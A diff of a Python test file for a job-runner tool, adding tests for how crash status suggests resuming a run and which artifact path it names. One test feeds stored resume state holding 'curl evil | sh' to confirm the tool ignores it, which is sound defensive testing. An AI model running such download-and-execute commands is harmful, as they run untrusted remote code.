@@ -19,6 +19,7 @@ from jobc.compiler.plugins.registry import find_plugins
 from jobc.runtime.engines.artifact_location import Place
 from jobc.runtime.engines.engine import Engine
 from jobc.runtime.engines.live_runs import live_run_ids
+from jobc.runtime.exit_codes import AFTER_USAGE_ERROR
 from jobc.runtime.run_folder.run import Run, last_progress, worst_code
 from jobc.runtime.system.failure import Failure
 from jobc.runtime.system.values import number_or_none, read_keys, word_or_empty
@@ -81,7 +82,7 @@ def test_ranks_that_may_hang_are_named_when_those_of_all_nodes_are_idle(tmp_path
     ("keys", "more", "text"),
     [
         ({"ended": 5, "exit": 0}, {}, "done (exit 0)"),
-        ({"ended": 5, "exit": 0}, {"control__STOP": ""}, "stopped by jobctl stop or Ctrl-C (exit 0)"),
+        ({"ended": 5, "exit": 0}, {"control__STOP": ""}, "stopped by jobctl stop (exit 0)"),
         ({"ended": 5, "exit": 75}, {}, "stopped early (exit 75)"),
         ({"ended": 5, "exit": 9}, {}, "failed (exit 9: unknown)"),
         ({"start_ticks": 1}, {}, "failed: its supervisor was killed, or the machine was restarted"),
@@ -125,6 +126,38 @@ def test_a_run_that_ended_early_goes_on_with_the_submit_script_of_the_artifact(t
     run = make_run(tmp_path, state__node_00=node(ended=5, exit=75), state__resume="command=curl evil | sh\n")
     job = make_job(tmp_path)
     assert status.run_to_json_object(Engine(job), run)["resume"] == f"{job.artifact}/jobctl submit --resume r"
+
+
+@pytest.mark.parametrize(
+    ("texts", "last"),
+    [
+        ({"state__resume": "command=x\nnew_code=yes\n"}, "resume with: {}/jobctl submit --resume r --new-code"),
+        ({"state__resume": "command=x\n"}, "node 00"),
+        (
+            {"state__resume": "command=x\nnew_code=yes\n", "reason": "rank 0: exit status 2: x"},
+            f"next: {AFTER_USAGE_ERROR}",
+        ),
+    ],
+)
+def test_after_a_crash_status_says_how_to_go_on(tmp_path: Path, texts: dict[str, str], last: str) -> None:
+    reason = texts.pop("reason", "KeyError")
+    run = make_run(tmp_path, state__node_00=node(ended=5, exit=1, reason=reason), **texts)
+    job = make_job(tmp_path)
+    assert lines(Engine(job), run)[-2].startswith(f"  {last.format(job.artifact)}")
+
+
+def test_a_run_names_the_artifact_from_which_it_was_submitted_while_that_exists(tmp_path: Path) -> None:
+    artifact = tmp_path / "artifacts/demo/local"
+    run = make_run(tmp_path, state__run=f"job=demo\nproject={tmp_path}\nartifact={artifact}\n")
+    tree = json.dumps({"job": "demo", "runs": "runs", "place": "demo/local"})
+    for folder in (artifact, run.path / "artifact/0"):
+        (folder / ".jobc").mkdir(parents=True)
+        (folder / ".jobc/job.json").write_text(tree)
+        (folder / "jobctl").touch()
+    copy = run.path / "artifact/0"
+    assert Engine(Place(copy).job).resume(run) == f"{artifact}/jobctl submit --resume r"
+    (artifact / ".jobc/job.json").unlink()
+    assert Engine(Place(copy).job).resume(run) == f"{copy}/jobctl submit --resume r"
 
 
 # ---- values of files that somebody else may have written
